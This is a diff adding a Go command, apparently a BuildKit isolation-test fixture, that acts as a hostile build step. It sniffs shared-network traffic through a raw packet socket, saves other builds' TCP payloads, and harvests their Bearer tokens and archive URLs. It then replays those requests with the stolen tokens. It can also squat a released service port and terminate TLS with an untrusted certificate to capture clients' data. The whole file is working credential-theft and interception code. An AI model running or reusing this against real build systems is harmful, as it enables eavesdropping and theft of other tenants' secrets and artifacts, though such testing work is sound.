@@ -1,0 +1,303 @@
+// Command eavesdropper is a build step that attacks other builds of its daemon. BuildKit gives steps
+// CAP_NET_RAW, and where it has no network for them they share buildkitd's: then all that passes on that
+// network passes here.
+//
+//	eavesdropper listen ADDRESS CAPTURE      what passes from and to an address
+//	eavesdropper squat ADDRESS:PORT CAPTURE  takes a port that a service has left, with TLS or without
+//
+// Both say "ready" when they are, write the TCP payloads that they get to CAPTURE, and end when a datagram
+// to the discard port of the address says so. Another datagram makes "listen" ask for everything again that
+// it saw being asked for, with the tokens that it saw, and say what it got.
+package main
+
+import (
+	"bufio"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"math/big"
+	"net"
+	"net/http"
+	"net/netip"
+	"os"
+	"regexp"
+	"syscall"
+	"time"
+)
+
+const (
+	// discardPort is where the orders of the test go. Nobody listens there.
+	discardPort = 9
+	orderSteal  = "eavesdropper: steal"
+	orderEnd    = "eavesdropper: end"
+	patience    = 10 * time.Second
+	// wantedBuffer holds what passes while this program is not running.
+	wantedBuffer = 64 << 20
+	// tlsHandshake is the first byte of a client that speaks TLS.
+	tlsHandshake = 22
+)
+
+var (
+	request = regexp.MustCompile(`^(GET|POST|PATCH) (/\S*) HTTP/1\.1\r\n(?:.*\r\n)*?Host: (\S+)`)
+	bearer  = regexp.MustCompile(`Authorization: (Bearer \S+)`)
+	object  = regexp.MustCompile(`"archiveLocation":"([^"]+)"`)
+)
+
+func main() {
+	if err := run(os.Args[1:]); err != nil {
+		fmt.Fprintln(os.Stderr, "eavesdropper:", err)
+		os.Exit(1)
+	}
+}
+
+func run(args []string) error {
+	switch {
+	case len(args) == 3 && args[0] == "listen":
+		return listen(args[1], args[2])
+	case len(args) == 3 && args[0] == "squat":
+		return squat(args[1], args[2])
+	}
+	return errors.New("usage: listen ADDRESS CAPTURE | squat ADDRESS:PORT CAPTURE")
+}
+
+// A tap gets every IPv4 packet of every interface that comes from or goes to one address.
+type tap struct {
+	fd      int
+	address netip.Addr
+	buffer  []byte
+}
+
+func tapOf(address netip.Addr) (*tap, error) {
+	const ethIP = syscall.ETH_P_IP<<8&0xff00 | syscall.ETH_P_IP>>8
+	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_DGRAM|syscall.SOCK_CLOEXEC, ethIP)
+	if err != nil {
+		return nil, err
+	}
+	// The system gives what it allows.
+	_ = syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_RCVBUF, wantedBuffer)
+	_ = syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_RCVBUFFORCE, wantedBuffer)
+	return &tap{fd, address, make([]byte, 1<<17)}, nil
+}
+
+// next returns the payload of the next TCP packet, or an order of the test.
+func (t *tap) next() (payload []byte, order string, err error) {
+	for {
+		n, from, err := syscall.Recvfrom(t.fd, t.buffer, 0)
+		if errors.Is(err, syscall.EINTR) {
+			continue
+		}
+		if err != nil {
+			return nil, "", err
+		}
+		// What passes on the loopback is seen twice: once on its way out.
+		if link, ok := from.(*syscall.SockaddrLinklayer); ok && link.Pkttype == syscall.PACKET_OUTGOING {
+			continue
+		}
+		packet := t.buffer[:n]
+		if n < 20 {
+			continue
+		}
+		source, target := netip.AddrFrom4([4]byte(packet[12:16])), netip.AddrFrom4([4]byte(packet[16:20]))
+		inner := packet[min(n, int(packet[0]&15)*4):]
+		switch {
+		case source != t.address && target != t.address:
+		case packet[9] == syscall.IPPROTO_UDP && len(inner) >= 8:
+			if binary.BigEndian.Uint16(inner[2:]) == discardPort {
+				return nil, string(inner[8:]), nil
+			}
+		case packet[9] == syscall.IPPROTO_TCP && len(inner) >= 20:
+			if payload := inner[min(len(inner), int(inner[12]>>4)*4):]; len(payload) > 0 {
+				return payload, "", nil
+			}
+		}
+	}
+}
+
+func listen(address, capture string) error {
+	heard, err := netip.ParseAddr(address)
+	if err != nil {
+		return err
+	}
+	out, err := os.Create(capture)
+	if err != nil {
+		return err
+	}
+	defer out.Close()
+	tap, err := tapOf(heard)
+	if err != nil {
+		return err
+	}
+	fmt.Println("ready")
+	seen := &loot{known: map[string]bool{}}
+	for {
+		payload, order, err := tap.next()
+		switch {
+		case err != nil:
+			return err
+		case order == orderEnd:
+			return nil
+		case order == orderSteal:
+			// It must not hear itself, so what it finds out from now on is no loot.
+			go steal(seen.ways)
+			seen = &loot{known: map[string]bool{}}
+		default:
+			if _, err := out.Write(payload); err != nil {
+				return err
+			}
+			seen.note(payload)
+		}
+	}
+}
+
+// A way is a request that somebody else made.
+type way struct{ url, bearer string }
+
+type loot struct {
+	known map[string]bool
+	ways  []way
+}
+
+func (l *loot) note(payload []byte) {
+	if found := request.FindSubmatch(payload); found != nil {
+		token := ""
+		if shown := bearer.FindSubmatch(payload); shown != nil {
+			token = string(shown[1])
+		}
+		l.add(way{"http://" + string(found[3]) + string(found[2]), token})
+	}
+	for _, found := range object.FindAllSubmatch(payload, -1) {
+		l.add(way{string(found[1]), ""})
+	}
+}
+
+func (l *loot) add(w way) {
+	if !l.known[w.url] {
+		l.known[w.url] = true
+		l.ways = append(l.ways, w)
+	}
+}
+
+func steal(ways []way) {
+	client := http.Client{Timeout: patience}
+	for _, way := range ways {
+		fmt.Println("tried", way.url, get(&client, way))
+	}
+	fmt.Println("tried all")
+}
+
+func get(client *http.Client, way way) string {
+	ask, err := http.NewRequest(http.MethodGet, way.url, nil)
+	if err != nil {
+		return err.Error()
+	}
+	if way.bearer != "" {
+		ask.Header.Set("Authorization", way.bearer)
+	}
+	answer, err := client.Do(ask)
+	if err != nil {
+		return err.Error()
+	}
+	defer answer.Body.Close()
+	body, err := io.ReadAll(answer.Body)
+	if err != nil {
+		return err.Error()
+	}
+	return fmt.Sprintf("%d %d bytes sha256:%x", answer.StatusCode, len(body), sha256.Sum256(body))
+}
+
+// squat answers on a port until it is told to end.
+func squat(port, capture string) error {
+	squatted, err := netip.ParseAddrPort(port)
+	if err != nil {
+		return err
+	}
+	out, err := os.Create(capture)
+	if err != nil {
+		return err
+	}
+	defer out.Close()
+	tap, err := tapOf(squatted.Addr())
+	if err != nil {
+		return err
+	}
+	listener, err := take(port)
+	if err != nil {
+		return err
+	}
+	fmt.Println("ready")
+	go accept(listener, out)
+	for {
+		if _, order, err := tap.next(); err != nil || order == orderEnd {
+			return err
+		}
+	}
+}
+
+// take binds a port as soon as its owner has gone.
+func take(port string) (net.Listener, error) {
+	for deadline := time.Now().Add(patience); ; {
+		listener, err := net.Listen("tcp", port)
+		if err == nil || time.Now().After(deadline) {
+			return listener, err
+		}
+	}
+}
+
+func accept(listener net.Listener, out *os.File) {
+	certificate, err := certificate()
+	if err != nil {
+		fmt.Println("no certificate:", err)
+		return
+	}
+	for {
+		connection, err := listener.Accept()
+		if err != nil {
+			return
+		}
+		fmt.Println("accepted")
+		go func() {
+			defer connection.Close()
+			_, _ = io.Copy(out, unwrap(connection, certificate))
+		}()
+	}
+}
+
+// unwrap ends TLS, if the client speaks it: it may take any certificate for the service's.
+func unwrap(connection net.Conn, certificate tls.Certificate) io.Reader {
+	reader := bufio.NewReader(connection)
+	if first, err := reader.Peek(1); err != nil || first[0] != tlsHandshake {
+		return reader
+	}
+	config := &tls.Config{Certificates: []tls.Certificate{certificate}}
+	return tls.Server(peeked{connection, reader}, config)
+}
+
+// peeked is a connection of which something was read.
+type peeked struct {
+	net.Conn
+	reader io.Reader
+}
+
+func (p peeked) Read(b []byte) (int, error) { return p.reader.Read(b) }
+
+// certificate is one that nobody trusts.
+func certificate() (tls.Certificate, error) {
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		return tls.Certificate{}, err
+	}
+	template := &x509.Certificate{
+		SerialNumber: big.NewInt(1),
+		NotAfter:     time.Now().Add(time.Hour),
+		IPAddresses:  []net.IP{net.IPv4(127, 0, 0, 1)},
+	}
+	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, err
+}
